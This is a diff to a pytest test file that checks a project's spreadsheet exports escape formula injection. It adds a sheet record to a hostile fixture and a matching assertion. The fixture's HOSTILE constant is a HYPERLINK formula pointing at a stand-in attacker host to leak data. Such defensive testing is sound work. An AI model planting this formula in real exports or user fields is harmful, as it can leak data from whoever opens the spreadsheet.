@@ -13,6 +13,7 @@ from carnet.lib.spreadsheets import FORMULA_START
 from carnet.timeline.enums import MilestoneState
 
 from .capitalisation.factories import InterviewFactory
+from .practices.factories import make_sheet
 from .timeline.factories import EraFactory, MilestoneFactory
 
 HOSTILE = '=HYPERLINK("http://evil.example/leak","Click")'
@@ -40,13 +41,14 @@ HOLDING_THE_VALUE = {
 
 
 @pytest.fixture
-def hostile_world(network, org_a):
+def hostile_world(network, org_a, claire):
     org_a.name = HOSTILE
     org_a.save()
     MilestoneFactory(network=network, state=MilestoneState.PUBLISHED, title=HOSTILE, tags="-1")
     EraFactory(network=network, name="@era", start=datetime.date(2011, 1, 1))
     InterviewFactory(network=network, organisation=org_a, expectations="+1")
     Video.objects.create(network=network, organisation=org_a, title=HOSTILE, speaker="-x")
+    make_sheet(network=network, organisation=org_a, by=claire, title="@sheet " + HOSTILE)
     return network
 
 
@@ -67,3 +69,5 @@ def test_no_export_cell_runs_as_a_formula(client, claire, hostile_world, url):
     assert [c for c in found if c[1] == "f" or str(c[0]).startswith(FORMULA_START)] == []
     if url in HOLDING_THE_VALUE:
         assert ("'" + HOSTILE, "s") in found
+    if "validations" in url:
+        assert ("'@sheet " + HOSTILE + " (Draft)", "s") in found
